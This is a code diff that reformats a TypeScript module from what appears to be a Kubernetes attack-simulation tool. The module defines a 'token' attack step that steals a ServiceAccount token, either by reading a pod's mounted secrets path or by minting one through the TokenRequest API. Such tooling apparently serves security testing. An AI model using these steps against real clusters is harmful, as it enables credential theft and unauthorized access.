@@ -3,19 +3,28 @@ import type { AttackStepKind, AttackContext } from '../types.js';
 import { runningPods } from '../pods.js';
 import { apiError } from '../../kube/errors.js';
 
-const schema = z.object({
-  /** The token a workload's running pod holds (what a shell in that pod reads from its filesystem). */
-  workload: z.object({
-    kind: z.enum(['Deployment', 'StatefulSet', 'DaemonSet', 'Pod']).default('Deployment'),
-    namespace: z.string(),
-    name: z.string(),
-    container: z.string().optional(),
-  }).strict().optional(),
-  /** Or a ServiceAccount's token, found elsewhere (a leaked kubeconfig, a CI log): `namespace/name`. */
-  serviceAccount: z.string().regex(/^[^/]+\/[^/]+$/, 'namespace/name').optional(),
-  /** The name later steps use it by (default `token`). */
-  as: z.string().default('token'),
-}).strict().refine((p) => !!p.workload !== !!p.serviceAccount, { message: 'needs exactly one of `workload` or `serviceAccount`' });
+const schema = z
+  .object({
+    /** The token a workload's running pod holds (what a shell in that pod reads from its filesystem). */
+    workload: z
+      .object({
+        kind: z.enum(['Deployment', 'StatefulSet', 'DaemonSet', 'Pod']).default('Deployment'),
+        namespace: z.string(),
+        name: z.string(),
+        container: z.string().optional(),
+      })
+      .strict()
+      .optional(),
+    /** Or a ServiceAccount's token, found elsewhere (a leaked kubeconfig, a CI log): `namespace/name`. */
+    serviceAccount: z
+      .string()
+      .regex(/^[^/]+\/[^/]+$/, 'namespace/name')
+      .optional(),
+    /** The name later steps use it by (default `token`). */
+    as: z.string().default('token'),
+  })
+  .strict()
+  .refine((p) => !!p.workload !== !!p.serviceAccount, { message: 'needs exactly one of `workload` or `serviceAccount`' });
 type P = z.infer<typeof schema>;
 
 const SA_DIR = '/var/run/secrets/kubernetes.io/serviceaccount';
@@ -36,8 +45,13 @@ function mountedToken(pod: any, container?: string): { audience?: string; expira
 async function mint(ctx: AttackContext, namespace: string, name: string, audience?: string, expirationSeconds?: number): Promise<string> {
   await ctx.cluster.guard.ensure();
   const r = await ctx.cluster.core.createNamespacedServiceAccountToken({
-    namespace, name,
-    body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: { audiences: audience ? [audience] : [], expirationSeconds: Math.max(600, Math.min(expirationSeconds ?? 600, 3600)) } },
+    namespace,
+    name,
+    body: {
+      apiVersion: 'authentication.k8s.io/v1',
+      kind: 'TokenRequest',
+      spec: { audiences: audience ? [audience] : [], expirationSeconds: Math.max(600, Math.min(expirationSeconds ?? 600, 3600)) },
+    },
   });
   return r.status!.token;
 }
@@ -64,7 +78,11 @@ export const token: AttackStepKind<P> = {
       namespace = w.namespace;
       sa = pod.spec?.serviceAccountName ?? 'default';
       const mounted = mountedToken(pod, w.container);
-      if (!mounted) return { succeeded: false, message: `pod ${pod.metadata.name} has no ServiceAccount token mounted (automountServiceAccountToken is off) — there is no token to steal` };
+      if (!mounted)
+        return {
+          succeeded: false,
+          message: `pod ${pod.metadata.name} has no ServiceAccount token mounted (automountServiceAccountToken is off) — there is no token to steal`,
+        };
       audience = mounted.audience;
       expiration = mounted.expirationSeconds;
       where = `read ${mounted.path} in pod ${pod.metadata.name}`;
